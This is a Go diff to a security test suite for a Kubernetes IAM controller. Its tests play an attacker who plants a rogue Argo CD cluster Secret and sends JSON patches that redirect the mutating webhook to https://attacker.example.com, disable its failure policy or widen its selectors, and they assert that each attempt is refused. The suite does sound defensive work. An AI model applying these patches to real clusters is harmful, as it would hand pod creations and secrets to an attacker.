@@ -2,6 +2,9 @@ package attacks
 
 import (
 	"context"
+	"os"
+	"path/filepath"
+	"strings"
 	"time"
 
 	"github.com/stretchr/testify/assert"
@@ -12,6 +15,7 @@ import (
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes"
 
+	"kube-aws-iam-controller/test/cluster"
 	"kube-aws-iam-controller/test/system"
 )
 
@@ -153,11 +157,11 @@ var thiefAttacks = []attack{
 		actor: thief, intent: "plant a Secret that another program takes for its own", by: byControllerGuard, guard: true,
 		try: func(a *arena) {
 			a.ask("app")
-			cluster := map[string]string{"name": "x", "server": "https://attacker.example.com", "config": "{}"}
+			foreign := map[string]string{"name": "x", "server": "https://attacker.example.com", "config": "{}"}
 			a.refused(a.steal(a.namespace, &corev1.Secret{
-				ObjectMeta: metav1.ObjectMeta{Name: "cluster", Labels: map[string]string{"argocd.argoproj.io/secret-type": "cluster"}}, StringData: cluster,
+				ObjectMeta: metav1.ObjectMeta{Name: "cluster", Labels: map[string]string{"argocd.argoproj.io/secret-type": "cluster"}}, StringData: foreign,
 			}))
-			a.refused(a.steal(a.namespace, a.belonging(corev1.SecretTypeOpaque, cluster)))
+			a.refused(a.steal(a.namespace, a.belonging(corev1.SecretTypeOpaque, foreign)))
 			for _, change := range []func(*corev1.Secret){
 				func(s *corev1.Secret) { s.OwnerReferences = nil },
 				func(s *corev1.Secret) { s.Name = "another" },
@@ -226,10 +230,51 @@ var thiefAttacks = []attack{
 		},
 	},
 	{
-		actor: thief, intent: "have pods sent to a webhook of the attacker's", by: "RBAC, with admission-policy or webhook-static: no right to the configuration is granted (with the component webhook it is, and no policy can bind it)",
+		actor: thief, intent: "have every new pod sent to a server of the attacker's, by the webhook's configuration", guard: true,
+		by: byControllerGuard + "; with webhook-static or admission-policy, RBAC",
 		try: func(a *arena) {
-			a.forbidden(ignoreNotFound(a.thief().AdmissionregistrationV1().RESTClient().Patch(types.MergePatchType).
-				Resource("mutatingwebhookconfigurations").Name("kube-aws-iam-controller-webhook").Body([]byte(`{"webhooks":null}`)).Do(a.t.Context()).Error()))
+			root, err := cluster.Root()
+			require.NoError(a.t, err)
+			for _, file := range []string{"rbac.yaml", "webhook.yaml"} { // under a name that matches no pod
+				text, err := os.ReadFile(filepath.Join(root, "manifests", "components", "webhook", file)) //nolint:gosec // a file of the repository
+				require.NoError(a.t, err)
+				manifest := strings.ReplaceAll(string(text), "operator: NotIn, values: [kube-system]", "operator: In, values: [nobody]")
+				_, err = a.KubectlInput(a.t.Context(), strings.NewReader(manifest), "apply", "-f", "-")
+				require.NoError(a.t, err)
+				a.t.Cleanup(func() {
+					_, err := a.KubectlInput(context.Background(), strings.NewReader(manifest), "delete", "-f", "-")
+					assert.NoError(a.t, err)
+				})
+			}
+			configurations := a.thief().AdmissionregistrationV1().MutatingWebhookConfigurations()
+			patch := func(ctx context.Context, patch string) error {
+				_, err := configurations.Patch(ctx, "kube-aws-iam-controller-webhook", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+				return err
+			}
+			for _, path := range []string{"/mutate-pods", "/mutate-pods/secret"} {
+				a.eventually(func(ctx context.Context) error { // until RBAC knows of the right
+					return patch(ctx, `[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"eA=="},{"op":"add","path":"/webhooks/0/clientConfig/service/path","value":"`+path+`"}]`)
+				})
+			}
+			for _, change := range []string{
+				`{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://attacker.example.com/"}}`,
+				`{"op":"add","path":"/webhooks/0/clientConfig/service/name","value":"attacker"}`,
+				`{"op":"add","path":"/webhooks/0/clientConfig/service/namespace","value":"` + a.namespace + `"}`,
+				`{"op":"add","path":"/webhooks/0/clientConfig/service/port","value":8443}`,
+				`{"op":"add","path":"/webhooks/0/clientConfig/service/path","value":"/metrics"}`,
+				`{"op":"add","path":"/webhooks/0/failurePolicy","value":"Ignore"}`,
+				`{"op":"add","path":"/webhooks/0/namespaceSelector","value":{}}`,
+				`{"op":"remove","path":"/webhooks/0/objectSelector"}`,
+				`{"op":"add","path":"/webhooks/0/rules/-","value":{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}}`,
+				`{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"x","expression":"false"}]}`,
+				`{"op":"add","path":"/webhooks/0/timeoutSeconds","value":30}`,
+				`{"op":"remove","path":"/webhooks/0"}`,
+				`{"op":"copy","from":"/webhooks/0","path":"/webhooks/1"},{"op":"add","path":"/webhooks/1/name","value":"x.example.com"}`,
+				`{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Node","name":"n","uid":"x"}]}`,
+				`{"op":"add","path":"/metadata/annotations","value":{"cert-manager.io/inject-ca-from":"x/y"}}`,
+			} {
+				a.refused(patch(a.t.Context(), "["+change+"]"))
+			}
 		},
 	},
 	{
